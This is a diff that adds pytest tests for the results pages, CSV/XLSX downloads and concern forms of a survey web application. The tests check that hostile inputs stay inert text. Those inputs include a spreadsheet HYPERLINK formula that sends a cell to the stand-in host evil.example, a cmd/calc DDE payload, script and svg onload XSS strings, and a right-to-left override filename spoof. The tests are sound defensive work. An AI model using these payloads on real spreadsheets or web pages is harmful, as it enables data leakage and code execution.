@@ -15,7 +15,13 @@ The surveys (second part): a text of NUL bytes only was a server error (the data
 survey's or an invitation's key was one too; a survey whose closing day had passed could be opened, open for the
 office and closed for residents; an open survey's last question could be deleted, leaving a form nobody could
 send; "1.200" on a German page was kept as 1.2 (and "1,200" on an English one); the answer limit threw away what
-a resident had typed."""
+a resident had typed.
+
+The results (third part): a long survey title or answer text made the concern form and the free texts' list scroll
+sideways on a phone; an Arabic or Turkish free text was shown as German text, its punctuation out of place (now
+marked with its questionnaire's language and ``dir="auto"``). What held: forged filters and pages, unknown download
+formats, formulas in the downloads, script in the texts, the concern's refusals and a self-evaluation's concern
+naming no organisation, the reading roles, constant queries from no answer to five thousand."""
 
 from __future__ import annotations
 
@@ -24,6 +30,7 @@ import datetime
 import io
 import threading
 import zlib
+from collections.abc import Callable
 
 import icalendar
 import pytest
@@ -1111,3 +1118,253 @@ def test_on_a_phone_in_arabic_the_limit_says_why_and_keeps_what_was_typed(
     expect(page.locator(f"#id_q{q['scale'].pk}_0")).to_be_checked()
     fits_the_phone(page)
     cache.clear()
+
+
+# --- (9) surveys: the results, their downloads and the concern made of an answer ----------------------------------
+
+
+def _results_url(survey: object, suffix: str = "") -> str:
+    return f"/gebiet/{survey.area.slug}/umfragen/{survey.pk}/ergebnisse/{suffix}"  # type: ignore[attr-defined]
+
+
+def _answered_survey(area: Quartier, today: datetime.date, *texts: str) -> object:
+    """A public survey of every kind with one questionnaire per text (and one without a text)."""
+    from activation.survey_services import submit_response
+    from tests.activation.survey_fixtures import by_kind, survey_of_every_kind
+
+    survey = survey_of_every_kind(area)
+    q = by_kind(survey)
+    for text in texts:
+        submit_response(survey, {q["scale"].pk: "3", q["text"].pk: text}, language="de", today=today)
+    submit_response(survey, {q["scale"].pk: "5"}, language="ar", today=today)
+    return survey
+
+
+@pytest.mark.parametrize(
+    "query",
+    ["language=xx", "language=", "date_from=2026-12-31&date_to=2026-01-01", "date_from=0001-01-01",
+     "date_to=9999-12-31", "date_from=٢٠٢٦-٠١-٠١", "date_from=10000-01-01", "date_from=2026-02-30",
+     "date_from=%00", "date_to=" + "9" * 500, "language=de&language=ar", "page=0", "page=-1", "page=abc",
+     "page=99999999999999999999999", "page=%00", "export=csv"],
+)  # fmt: skip
+def test_forged_filters_answer_the_results_texts_and_downloads_never_a_server_error(
+    client: Client, area: Quartier, role_users: dict[str, User], today: datetime.date, query: str
+) -> None:
+    from tests.activation.survey_fixtures import by_kind
+
+    survey = _answered_survey(area, today, "Mehr Bänke")
+    text = by_kind(survey)["text"]
+    client.force_login(role_users["koordination"])
+    for suffix in ("", f"fragen/{text.pk}/texte/", "zusammenfassung.csv", "antworten.xlsx", "antworten.csv"):
+        response = client.get(_results_url(survey, suffix) + "?" + query)
+        assert response.status_code in (200, 404), (suffix, query, response.status_code)
+
+
+@pytest.mark.parametrize("fmt", ["pdf", "CSV", "Xlsx", "csv%00", "csv.", "csv/", "json", "%2e%2e", "c sv"])
+def test_an_unknown_download_format_is_not_found(
+    client: Client, area: Quartier, role_users: dict[str, User], today: datetime.date, fmt: str
+) -> None:
+    survey = _answered_survey(area, today, "Mehr Bänke")
+    client.force_login(role_users["steuerung"])
+    for name in ("zusammenfassung", "antworten"):
+        assert client.get(_results_url(survey, f"{name}.{fmt}")).status_code == 404, (name, fmt)
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"klick")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
+            "\t=1+1", "\r=1+1", "\x01=1+1"]  # fmt: skip
+
+
+def test_formulas_in_free_texts_stay_text_in_both_downloads(
+    client: Client, area: Quartier, role_users: dict[str, User], today: datetime.date
+) -> None:
+    survey = _answered_survey(area, today, *FORMULAS)
+    client.force_login(role_users["gwa"])
+    raw = client.get(_results_url(survey, "antworten.csv"))
+    assert raw.status_code == 200
+    rows = list(csv.reader(io.StringIO(raw.content.decode("utf-8-sig")), delimiter=";"))
+    cells = [row[-1] for row in rows[1:] if row[-1]]
+    assert len(cells) == len(FORMULAS)
+    assert all(cell.startswith("'") for cell in cells), cells
+    book = load_workbook(io.BytesIO(client.get(_results_url(survey, "antworten.xlsx")).content))
+    values = [row[-1] for row in book.active.iter_rows(min_row=2, values_only=True) if row[-1]]
+    assert len(values) == len(FORMULAS)
+    assert all(isinstance(value, str) and value.startswith("'") for value in values), values
+    assert not any(cell.data_type == "f" for row in book.active.iter_rows() for cell in row)
+
+
+def test_script_and_direction_overrides_in_free_texts_stay_text_on_the_results(
+    client: Client, area: Quartier, role_users: dict[str, User], today: datetime.date
+) -> None:
+    from tests.activation.survey_fixtures import by_kind
+
+    attack = '<script>alert(1)</script><svg onload=alert(2)>"\u202egnp.exe'
+    survey = _answered_survey(area, today, attack)
+    client.force_login(role_users["gwa"])
+    for suffix in ("", f"fragen/{by_kind(survey)['text'].pk}/texte/"):
+        page = client.get(_results_url(survey, suffix)).content.decode()
+        assert "<script>alert" not in page and "<svg onload" not in page
+        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
+
+
+def test_the_results_cost_the_same_queries_with_no_answer_and_with_five_thousand(
+    client: Client,
+    area: Quartier,
+    role_users: dict[str, User],
+    today: datetime.date,
+    assert_constant_queries: Callable[..., int],
+) -> None:
+    from activation.models import Answer, Response
+    from activation.survey_services import submit_response
+    from tests.activation.survey_fixtures import by_kind, survey_of_every_kind
+
+    client.force_login(role_users["planung"])
+    for suffix in ("", "?language=ar&date_from=2020-01-01", "fragen/{text}/texte/", "fragen/{text}/texte/?page=9",
+                   "zusammenfassung.csv", "antworten.xlsx"):  # fmt: skip
+        survey = survey_of_every_kind(area, title=f"Umfrage {suffix}")
+        q = by_kind(survey)
+        choices = list(q["multiple"].choices.all())
+
+        def grow(survey: object = survey, q: dict[str, object] = q, choices: list[object] = choices) -> None:
+            responses = Response.objects.bulk_create(
+                Response(
+                    survey=survey,
+                    submitted_on=today - datetime.timedelta(days=n % 200),
+                    language=("de", "ar")[n % 2],
+                )
+                for n in range(5000)
+            )
+            Answer.objects.bulk_create(
+                answer
+                for n, response in enumerate(responses)
+                for answer in (
+                    Answer(response=response, question=q["scale"], number=1 + n % 5),
+                    Answer(response=response, question=q["multiple"], choice=choices[n % 3]),
+                    Answer(response=response, question=q["number"], number=n % 100),
+                    Answer(response=response, question=q["text"], text=f"Idee {n}"),
+                )
+            )
+
+        if "texte" in suffix:  # an empty list makes no query for its rows (the paginator's count is 0): one text
+            submit_response(survey, {q["scale"].pk: "3", q["text"].pk: "Eine Idee"}, today=today)
+        link = _results_url(survey, suffix.format(text=q["text"].pk))
+        assert_constant_queries(lambda link=link: client.get(link), grow)
+
+
+@pytest.mark.browser
+def test_a_five_thousand_character_text_fits_a_phone_on_the_results_its_list_and_the_concern_form(
+    phone_page, visit, browser_login, area: Quartier, today: datetime.date
+) -> None:
+    from activation.models import Answer
+    from activation.survey_services import submit_response
+    from tests.activation.survey_fixtures import by_kind, survey_of_every_kind
+
+    page = phone_page
+    survey = survey_of_every_kind(area, title="Umfrage" + "Donaudampfschifffahrt" * 8)
+    q = by_kind(survey)
+    long = "Straßenbeleuchtungsreparaturauftrag" * 143  # 5,005 characters without a space
+    submit_response(survey, {q["scale"].pk: "3", q["text"].pk: long[:5000]}, language="de", today=today)
+    submit_response(survey, {q["scale"].pk: "4", q["text"].pk: "\u202eمرحبا " + long[:300]}, language="ar", today=today)
+    given = Answer.objects.get(question=q["text"], text=long[:5000])
+    browser_login(page, user_with_role(area, Role.GEMEINWESENARBEIT, username="gwa-user"))
+    for url in (
+        _results_url(survey),
+        _results_url(survey, f"fragen/{q['text'].pk}/texte/"),
+        _results_url(survey, f"antworten/{given.pk}/anliegen/"),
+    ):
+        visit(page, url)
+        assert page.evaluate("document.documentElement.scrollWidth") <= page.viewport_size["width"], url
+
+
+def test_a_concern_of_a_self_evaluations_answer_names_no_organisation_anywhere(
+    client: Client, area: Quartier, role_users: dict[str, User], today: datetime.date
+) -> None:
+    from auditlog.models import LogEntry
+
+    from activation.models import Answer
+    from activation.survey_services import submit_response
+    from actors.models import Concern
+
+    survey, invitation = _self_evaluation_of(area)
+    question = survey.questions.get()  # type: ignore[attr-defined]
+    submit_response(survey, {question.pk: "Wir brauchen mehr Räume"}, invitation=invitation, today=today)  # type: ignore[arg-type]
+    given = Answer.objects.get()
+    client.force_login(role_users["gwa"])
+    form = client.get(_results_url(survey, f"antworten/{given.pk}/anliegen/")).content.decode()
+    assert "Jugendtreff" not in form
+    response = client.post(_results_url(survey, f"antworten/{given.pk}/anliegen/"), {"text": given.text})
+    concern = Concern.objects.get()
+    assert response.status_code == 302
+    assert concern.raised_by_organisation is None and concern.raised_by_person is None
+    assert "Jugendtreff" not in client.get(response["Location"]).content.decode()
+    entries = LogEntry.objects.get_for_object(concern).values_list("changes_text", "changes", "object_repr")
+    assert entries and "Jugendtreff" not in str(list(entries))
+    # Nor do the results or the downloads say which organisation gave which answer.
+    for suffix in ("", f"fragen/{question.pk}/texte/", "antworten.csv", "zusammenfassung.csv"):
+        assert "Jugendtreff" not in client.get(_results_url(survey, suffix)).content.decode(), suffix
+
+
+def test_a_concern_is_refused_for_an_answer_of_another_survey_a_deleted_one_and_other_methods(
+    client: Client, area: Quartier, role_users: dict[str, User], today: datetime.date
+) -> None:
+    from activation.models import Answer, Response
+    from actors.models import Concern
+    from tests.activation.survey_fixtures import by_kind
+
+    survey = _answered_survey(area, today, "Laterne kaputt")
+    other = _answered_survey(area, today, "Bank kaputt")
+    theirs = Answer.objects.get(question=by_kind(other)["text"])
+    mine = Answer.objects.get(question=by_kind(survey)["text"])
+    choice_or_scale = Answer.objects.filter(response__survey=survey).exclude(pk=mine.pk).first()
+    client.force_login(role_users["gwa"])
+    assert client.post(_results_url(survey, f"antworten/{theirs.pk}/anliegen/"), {"text": "x"}).status_code == 404
+    assert (
+        client.post(_results_url(survey, f"antworten/{choice_or_scale.pk}/anliegen/"), {"text": "x"}).status_code == 404
+    )
+    for method in ("put", "delete", "patch"):
+        assert getattr(client, method)(_results_url(survey, f"antworten/{mine.pk}/anliegen/")).status_code == 405
+    # Two posts one after the other: one concern, the second leads to it.
+    first = client.post(_results_url(survey, f"antworten/{mine.pk}/anliegen/"), {"text": "Laterne kaputt"})
+    second = client.post(_results_url(survey, f"antworten/{mine.pk}/anliegen/"), {"text": "Noch mal"})
+    assert first["Location"] == second["Location"] and Concern.objects.count() == 1
+    Response.objects.filter(answers=theirs).delete()  # the questionnaire is gone
+    assert client.get(_results_url(other, f"antworten/{theirs.pk}/anliegen/")).status_code == 404
+    assert Concern.objects.count() == 1
+
+
+def test_koordination_and_planung_read_the_texts_and_download_but_make_no_concern(
+    client: Client, area: Quartier, role_users: dict[str, User], today: datetime.date
+) -> None:
+    """Koordination reads concerns with their text but no person's data; an anonymous survey's free text is read
+    like a concern's text (nobody is named as its writer), so both reading roles see the texts."""
+    from tests.activation.survey_fixtures import by_kind
+
+    survey = _answered_survey(area, today, "Mehr Licht am Ufer")
+    for role in ("koordination", "planung"):
+        client.force_login(role_users[role])
+        for suffix in ("", f"fragen/{by_kind(survey)['text'].pk}/texte/"):
+            page = client.get(_results_url(survey, suffix)).content.decode()
+            assert "Mehr Licht am Ufer" in page and "/anliegen/" not in page.split("<main")[1], (role, suffix)
+        for suffix in ("antworten.csv", "zusammenfassung.xlsx"):
+            assert client.get(_results_url(survey, suffix)).status_code == 200, (role, suffix)
+
+
+def test_a_text_in_another_language_is_marked_with_it_and_its_direction(
+    client: Client, area: Quartier, role_users: dict[str, User], today: datetime.date
+) -> None:
+    """WCAG 3.1.2: an Arabic or Turkish answer on the German page is marked as such; ``dir="auto"`` keeps an
+    Arabic sentence's punctuation in place and a direction override inside its own paragraph."""
+    from activation.models import Answer
+    from activation.survey_services import submit_response
+    from tests.activation.survey_fixtures import by_kind
+
+    survey = _answered_survey(area, today)
+    q = by_kind(survey)
+    submit_response(survey, {q["scale"].pk: "2", q["text"].pk: "مزيد من الأشجار؟"}, language="ar", today=today)
+    submit_response(survey, {q["scale"].pk: "2", q["text"].pk: "Ohne Sprache"}, today=today)  # typed in on paper
+    client.force_login(role_users["gwa"])
+    arabic = Answer.objects.get(text="مزيد من الأشجار؟")
+    for suffix in ("", f"fragen/{q['text'].pk}/texte/", f"antworten/{arabic.pk}/anliegen/"):
+        page = client.get(_results_url(survey, suffix)).content.decode()
+        assert 'dir="auto" lang="ar">مزيد من الأشجار؟<' in page, suffix
+        if "anliegen" not in suffix:
+            assert 'dir="auto">Ohne Sprache<' in page, suffix
